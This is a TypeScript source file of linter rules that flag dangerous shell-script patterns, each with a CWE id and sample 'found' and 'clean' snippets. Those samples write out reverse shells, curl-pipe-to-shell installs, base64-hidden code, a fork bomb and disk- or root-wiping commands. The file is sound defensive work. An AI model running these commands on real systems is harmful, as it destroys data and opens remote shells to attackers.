/** The rules for shell scripts. */
import type { Rule } from '../rule.ts';
import { SQL, textRules } from './texts.ts';

const EXPANDED = '[(simple_expansion) (expansion) (string [(simple_expansion) (expansion)]) (concatenation [(simple_expansion) (expansion) (string [(simple_expansion) (expansion)])])]';

export const shellscript: readonly Rule[] = [
  {
    id: 'shellscript/eval', category: 'evaluation', severity: 'warning', cwe: 95,
    message: 'The script runs what is in a variable as commands. Use an array for a command with its arguments ("${command[@]}"), or choose with case.',
    query: `((command name: (command_name) @name argument: ${EXPANDED}) @at (#eq? @name "eval"))`,
    found: ['eval "$1"', 'eval $command', 'eval "x=${y}"'],
    clean: ['eval "$(ssh-agent -s)"', 'echo "$1"', "eval 'echo hello'", '# eval "$1"'],
  },
  {
    id: 'shellscript/remote-script', category: 'obfuscation', severity: 'warning', cwe: 494,
    message: 'A script is downloaded and run unseen. Save it, compare its digest, and run it then.',
    query: `((pipeline (command name: (command_name) @download) (command) @shell .) @at
      (#any-of? @download "curl" "wget") (#match? @shell "^(sudo )?(/bin/)?(ba|da|z)?sh( |$)"))`,
    found: ['curl -fsSL https://example.com/i.sh | sh', 'wget -qO- https://example.com/i.sh | sudo bash -s -- -y'],
    clean: ['curl https://example.com | grep x', 'curl -o i.sh https://example.com/i.sh', 'cat i.sh | sh'],
  },
  {
    id: 'shellscript/hidden-code', category: 'obfuscation', severity: 'error', cwe: 506,
    message: 'The script runs code that is hidden in an encoding. Decode it and read it first.',
    query: `((pipeline [(command) (redirected_statement)] @decode (command) @shell .) @at
        (#match? @decode "^(base64 (-d|-D|--decode)|xxd -r|openssl (base64|enc) .*-d)") (#match? @shell "^(sudo )?(/bin/)?((ba|da|z)?sh|python3?|perl|ruby|node)( |$)"))
      ((command name: (command_name) @name argument: (string (command_substitution) @decode)) @at (#eq? @name "eval") (#match? @decode "base64 (-d|-D|--decode)|xxd -r"))`,
    found: ['echo ZWNobyAx | base64 -d | sh', 'base64 --decode < f | python3', 'eval "$(echo ZWNobyAx | base64 -d)"'],
    clean: ['echo eA== | base64 -d', 'base64 -d f | gzip -d', 'echo x | sh'],
  },
  {
    id: 'shellscript/fork-bomb', category: 'exhaustion', severity: 'error', cwe: 400,
    message: 'This starts processes without end.',
    query: `((function_definition name: (word) @name body: (compound_statement (pipeline (command name: (command_name (word) @first)) (command name: (command_name (word) @second))))) @at
      (#eq? @name @first) (#eq? @name @second))`,
    found: [':(){ :|:& };:', 'bomb() {\n  bomb | bomb &\n}\nbomb'],
    clean: ['f() { g | h; }', 'f() { f; }', 'a | a'],
  },
  {
    id: 'shellscript/destruction', category: 'destruction', severity: 'error', cwe: 506,
    message: 'This removes everything below the root or the home folder, or overwrites a disk.',
    query: `((command name: (command_name) @name argument: (word) @option argument: (_) @target) @at
        (#eq? @name "rm") (#match? @option "^(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)$")
        (#match? @target "^[\\"']?(/|/[*]|~|~/|~/[*]|[$]HOME/?|[$][{]HOME[}]/?|/(home|etc|usr|root|var)/?)[\\"']?$"))
      ((command name: (command_name) @name argument: (_) @target) @at (#match? @name "^(dd|shred|mkfs([.][a-z0-9]+)?|wipefs)$") (#match? @target "^(of=)?/dev/(sd|hd|vd|xvd|nvme|mmcblk)[a-z0-9]*$"))`,
    found: ['rm -rf /', 'rm -rf --no-preserve-root /', 'rm -fr "$HOME"', 'rm -r -f ~/', 'rm -rf /*', 'sudo true; rm -rf ~', 'dd if=/dev/zero of=/dev/sda', 'mkfs.ext4 /dev/nvme0n1'],
    clean: ['rm -rf /tmp/x', 'rm -rf "$folder"', 'rm -f /', 'rm -rf ./build', 'dd if=/dev/zero of=disk.img', 'rm -rf "$HOME/.cache/x"', 'echo "rm -rf /"'],
  },
  {
    id: 'shellscript/weak-tls', category: 'tls', severity: 'warning', cwe: 295,
    message: 'The certificate or the key of the server is not checked, so anybody on the way can answer in its place. Leave the check on, and name the authority if it is your own (--cacert).',
    query: `((command name: (command_name) @name argument: (word) @at) (#eq? @name "curl") (#match? @at "^(-[sSfLgiv]*k[sSfLgiv]*|--insecure)$"))
      ((command name: (command_name) @name argument: (word) @at) (#eq? @name "wget") (#eq? @at "--no-check-certificate"))
      ((command name: (command_name) @name argument: [(word) (concatenation)] @at) (#any-of? @name "ssh" "scp" "sftp") (#match? @at "StrictHostKeyChecking=no"))`,
    found: ['curl -k https://example.com', 'curl -sSkL https://example.com', 'wget --no-check-certificate https://example.com', 'ssh -o StrictHostKeyChecking=no host'],
    clean: ['curl -sSL https://example.com', 'ssh -o StrictHostKeyChecking=accept-new host', 'tar -k -xf a.tar'],
  },
  {
    id: 'shellscript/reverse-shell', category: 'command', severity: 'warning', cwe: 506,
    message: 'An interactive shell is led over the network, so whoever is at the other end has it.',
    query: `((redirected_statement body: (command name: (command_name) @name argument: (word) @option) redirect: (file_redirect destination: (_) @place)) @at
        (#match? @name "(ba|z)?sh$") (#match? @option "^-[a-z]*i") (#match? @place "^/dev/(tcp|udp)/"))
      ((command name: (command_name) @name argument: (word) @option argument: (word) @program) @at (#any-of? @name "nc" "ncat" "netcat") (#match? @option "^-[a-z]*[ec]$") (#match? @program "^(/bin/)?(ba|z)?sh$"))`,
    found: ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'nc -e /bin/sh 10.0.0.1 4242'],
    clean: ['echo x > /dev/tcp/localhost/80', 'nc -l 4242', 'bash -i'],
  },
  {
    id: 'shellscript/sql', category: 'sql', severity: 'warning', cwe: 89,
    message: 'A statement of SQL is put together as text, so what is in its parts can change it. Pass the values as parameters (psql -v name=value, with :\'name\').',
    query: `((command name: (command_name) @name argument: (string [(simple_expansion) (expansion)]) @statement) @at
      (#any-of? @name "mysql" "mariadb" "psql" "sqlite3") (#match? @statement "^\\"\\\\s*${SQL}"))`,
    found: ['mysql -e "SELECT * FROM t WHERE a = \'$1\'"', 'sqlite3 f.db "delete from t where a = ${a}"'],
    clean: ['mysql -e "SELECT 1"', 'psql "$DATABASE_URL"', 'echo "SELECT $1"'],
  },
  ...textRules({ prefix: 'shellscript', nodes: ['string_content', 'raw_string', 'word'], literal: (text) => `f "${text}"`, without: ['remote-script'] }),
];
